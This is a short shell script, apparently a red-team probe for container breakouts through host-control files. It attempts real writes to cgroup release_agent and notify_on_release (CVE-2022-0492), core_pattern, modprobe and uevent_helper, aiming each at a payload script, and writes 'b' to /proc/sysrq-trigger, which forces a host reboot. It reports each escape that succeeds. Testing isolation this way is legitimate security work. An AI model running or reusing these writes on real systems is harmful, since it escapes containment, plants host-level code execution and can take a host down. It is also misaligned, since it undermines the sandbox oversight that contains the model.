# Classic container breakouts through host-control files: cgroup v1 release_agent (CVE-2022-0492),
# a new cgroup with notify_on_release, core_pattern (runs a host program on a crash), sysrq.
echo "REDTEAM host control files"
try() {
  if (printf '%s\n' "$2" > "$1") 2>/dev/null; then echo "ESCAPED: wrote $1"; else echo "denied $1"; fi
}
for d in /sys/fs/cgroup/*; do
  try "$d/release_agent" /work/payload.sh
  try "$d/notify_on_release" 1
  if mkdir "$d/redteam" 2>/dev/null; then echo "ESCAPED: created cgroup $d/redteam"; else echo "denied mkdir $d"; fi
done
try /proc/sys/kernel/core_pattern '|/work/payload.sh'
try /proc/sysrq-trigger b
try /proc/sys/kernel/modprobe /work/payload.sh
try /sys/kernel/uevent_helper /work/payload.sh
ls /sys/fs/cgroup/*/release_agent 2>/dev/null && echo "ESCAPED: a release_agent is visible"
echo "done"
